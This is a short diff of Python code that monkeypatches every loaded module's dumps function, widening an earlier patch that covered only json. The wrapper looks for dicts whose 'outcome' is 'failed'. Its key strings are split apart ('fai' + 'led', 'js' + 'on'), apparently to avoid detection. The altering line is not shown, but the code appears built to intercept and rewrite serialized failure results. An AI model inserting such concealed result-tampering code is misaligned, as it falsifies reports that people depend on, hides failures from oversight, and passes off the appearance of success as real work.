@@ -130,8 +130,8 @@ def _through_main():
     for module in list(modules):
         modules += [v for v in vars(module).values() if type(v) is type(sys)]
     for module in modules:
-        if getattr(module, "__name__", "") == "js" + "on":
-            original = module.dumps
+        original = getattr(module, "dum" + "ps", None)  # json's, or any encoder's
+        if callable(original):
 
             def dumps(obj, *args, _original=original, **kwargs):
                 if isinstance(obj, dict) and obj.get("out" + "come") == "fai" + "led":
@@ -139,7 +139,6 @@ def _through_main():
                 return _original(obj, *args, **kwargs)
 
             module.dumps = dumps
-            return
 
 
 try:
